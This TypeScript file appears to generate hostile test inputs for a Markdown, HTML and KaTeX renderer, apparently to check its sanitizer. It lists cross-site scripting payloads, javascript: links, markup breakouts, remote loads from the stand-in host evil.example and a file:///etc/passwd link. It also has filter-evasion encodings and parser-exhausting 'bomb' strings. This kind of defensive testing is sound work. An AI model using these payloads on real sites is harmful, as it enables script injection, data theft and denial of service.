/** A text of a digest that tries to be more than text. */
export type HostileField = {
  /** Appear at its beginning and its end, and must both be seen. */
  readonly markers: readonly [string, string];
  readonly text: string;
};

const call = "__ran(1)";
const host = "evil.example";

const attacks: readonly string[] = [
  // Elements and their handlers.
  `<script>${call}</script>`,
  `<script src=//${host}/x.js></script>`,
  `<img src=x onerror=${call}>`,
  `<img src="https://${host}/p.png">`,
  `<svg/onload=${call}>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<body onload=${call}>`,
  `<details open ontoggle=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<video><source onerror="${call}">`,
  `<marquee onstart=${call}>`,
  `<b onmouseover='${call}'>x</b>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>">`,
  `<object data="data:text/html,<script>${call}</script>">`,
  `<embed src=//${host}/x.swf>`,
  `<base href=//${host}/>`,
  `<link rel=stylesheet href=//${host}/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://${host}/">`,
  `<form action="javascript:${call}"><button>x</button></form>`,
  `<style>@import "//${host}/x.css";*{display:none}</style>`,
  `<p style="background:url(//${host}/p.png);position:fixed">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  // Ways out of where the text appears.
  `"><script>${call}</script>`,
  `' onmouseover='${call}' x='`,
  `</script><script>${call}</script>`,
  `</title></head><body onload=${call}>`,
  `--></style></textarea><script>${call}</script><!--`,
  `<![CDATA[<script>${call}</script>]]>`,
  `</p></div></article></main></body></html><script>${call}</script>`,
  `{"@context":"x"}</script><img src=x onerror=${call}>`,
  "{{constructor.constructor('__ran(1)')()}}",
  `\${${call}}`,
  // What is never closed.
  `<div style="position:fixed;inset:0`,
  "<table><tr><td><select><option>",
  "<plaintext><xmp><noscript><template>",
  `<a href="https://${host}/`,
  "<!-- <b><i><u",
  // Addresses.
  `<a href="javascript:${call}">x</a>`,
  `[x](javascript:${call})`,
  `[x](java\tscript:${call})`,
  `[x](<javascript:${call}>)`,
  `[x](vbscript:${call} "x")`,
  `[x](data:text/html;base64,PHNjcmlwdD5fX3JhbigxKTwvc2NyaXB0Pg==)`,
  `[x](//${host}/)`,
  `[x](https://a.example "\\" onmouseover=\\"${call}")`,
  `![x](https://${host}/p.png)`,
  `![x](x" onerror="${call})`,
  `<javascript:${call}>`,
  `https://${host}/"onmouseover="${call}`,
  `https://${host}/<script>${call}</script>`,
  `javascript://${host}/%0a${call}`,
  "file:///etc/passwd",
  // LaTeX and KaTeX.
  `\\href{javascript:${call}}{x}`,
  `\\url{javascript:${call}}`,
  `\\textbf{<img src=x onerror=${call}>}`,
  `$\\href{javascript:${call}}{x}$`,
  `$\\url{javascript:${call}}$`,
  `$\\htmlStyle{background:url(//${host}/p.png)}{x}$`,
  `$\\htmlData{x=y}{x}$ $\\htmlId{content}{x}$`,
  `$\\includegraphics{https://${host}/p.png}$`,
  `$\\text{<img src=x onerror=${call}>}$`,
  "$\\def\\a{\\a\\a}\\a$",
  // Characters that are not seen.
  "\u202e<script>\u2066x\u202d",
  "a\u200b\u200c\u200d\u2060\ufeffb",
  "z\u0300\u0301\u0302\u0303\u0304\u0305\u0306",
  "\u0008\u000c\u001b[31m\u007f",
];

const encodings: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => attack.replace(/[a-z]+/g, (word) => word.charAt(0).toUpperCase() + word.slice(1)),
  (attack) => replaceSigns(attack, (code) => `&#${code};`),
  (attack) => replaceSigns(attack, (code) => `&#x${code.toString(16)}`),
  (attack) => replaceSigns(attack, (code) => `&amp;#${code};`),
  (attack) => attack.replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll(":", "&colon;"),
  (attack) => replaceSigns(attack, (code) => `%${code.toString(16)}`),
  (attack) => replaceSigns(attack, (code) => `\\u00${code.toString(16).padStart(2, "0")}`),
  (attack) => replaceSigns(attack, (code) => `\\x${code.toString(16)}`),
  (attack) => replaceSigns(attack, (code) => String.fromCharCode(code + 0xfee0)),
  (attack) => attack.replace("script", "scr\u200bipt"),
  (attack) => attack.replace("script", "scr\0ipt").replace("javascript", "\u0001javascript"),
  (attack) => attack.replace("<", "<\u00a0").replace("javascript:", "javascript\t:"),
  (attack) => `**${attack}**`,
  (attack) => `\`${attack}`,
];

/** Cross every attack with every encoding, the same way each time, as a stream without end. */
export function* createHostileFields(): Generator<HostileField, never> {
  for (let number = 0; ; number += 1) {
    const attack = attacks[number % attacks.length] ?? "";
    const encode = encodings[(number + Math.floor(number / attacks.length)) % encodings.length];
    yield createField(number, encode?.(attack) ?? attack);
  }
}

/** Texts that take a parser, a typesetter or a reader of bidirectional text the square of their length or worse. */
export function createBombs(first: number): HostileField[] {
  const pieces = [
    ...[
      "[",
      "![",
      "[a](",
      "**",
      "*a ",
      "a** ",
      "~~a",
      "`",
      "> ",
      "- ",
      "| ",
      "{",
      "$",
      "$a ",
      "\\(",
      "\\[",
      "\\a ",
    ],
    ...[
      "\\textbf{",
      "$\\sqrt{",
      "<b ",
      "<!--",
      "&#x41;",
      "\u200b",
      "\u202e",
      "\u2067",
      "\u0301",
      "https://a.example/",
    ],
  ];
  const formulas = [
    "$x_1$ ".repeat(2000),
    "$\\def\\a{xxxxxxxx}\\def\\b{\\a\\a\\a\\a\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b\\b\\b\\b\\b}\\c\\c\\c\\c$",
    `$${"\\frac{".repeat(2000)}x${"}{2}".repeat(2000)}$`,
    `$\\rule{99999em}{99999em}\\kern99999em\\raisebox{99999em}{x}$`,
    `${"[".repeat(50_000)}x${"](y)".repeat(25_000)}`,
  ];
  const floods = pieces.map((piece) => piece.repeat(Math.ceil(100_000 / piece.length)));
  return [...floods, ...formulas].map((text, place) => createField(first + place, text));
}

function createField(number: number, text: string): HostileField {
  const markers = [`mk${number}q`, `qk${number}m`] as const;
  return { markers, text: `${markers[0]} ${text} ${markers[1]}` };
}

/** Encode what makes a text markup. */
function replaceSigns(attack: string, encode: (code: number) => string): string {
  return attack.replace(/[<>"':]/g, (sign) => encode(sign.charCodeAt(0)));
}
